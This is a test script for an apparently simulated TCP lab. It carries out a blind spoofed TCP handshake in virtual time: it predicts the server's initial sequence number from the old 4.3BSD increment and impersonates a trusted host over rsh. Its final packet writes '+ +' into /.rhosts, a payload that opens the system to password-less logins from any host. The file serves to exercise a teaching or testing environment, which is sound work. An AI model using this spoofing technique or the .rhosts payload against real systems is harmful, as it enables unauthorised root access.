# tests/attach/blind.py: a blind spoofed handshake in virtual time (tcplab attach).
# Samples the server's ISN with a SYN of our own, predicts the next one (4.3BSD adds 64000
# per connection), then completes a handshake as `trusted` without seeing its SYN-ACK.
import sys

import tcplab

s = tcplab.Session()
h = s.hosts()
print("attached as", s.addr, s.prefix, "at", s.now(), file=sys.stderr)

s.note("stage 1: sample the ISN")
s.send(tcplab.tcp_packet(s.addr, h["server"], 40000, 513, seq=1, flags="S"))
got = s.wait(0.01)
for d in got:
    print("%.6f %s:%d > %s:%d [%s] seq=%d ack=%d" % (d.time, d.src, d.sport, d.dst, d.dport,
                                                      d.flags, d.seq, d.ack), file=sys.stderr)
synack = [d for d in got if d.flags == "SA"][0]
s.send(tcplab.tcp_packet(s.addr, h["server"], 40000, 513, seq=2, flags="R"))

s.note("stage 2: a spoofed SYN from trusted")
s.send(tcplab.tcp_packet(h["trusted"], h["server"], 1023, 513, seq=5000, flags="S"))
print("seen after the spoofed SYN:", len(s.wait(0.01)), file=sys.stderr)

s.note("stage 3: the blind ACK")
guess = (synack.seq + 64000) & 0xFFFFFFFF
s.send(tcplab.tcp_packet(h["trusted"], h["server"], 1023, 513, seq=5001, ack=guess + 1,
                         flags="A"))
s.send(tcplab.tcp_packet(h["trusted"], h["server"], 1023, 513, seq=5001, ack=guess + 1,
                         flags="PA", payload=b"0\0root\0root\0echo + + >>/.rhosts\0"))
s.wait(0.01)
print("done at", s.now(), file=sys.stderr)
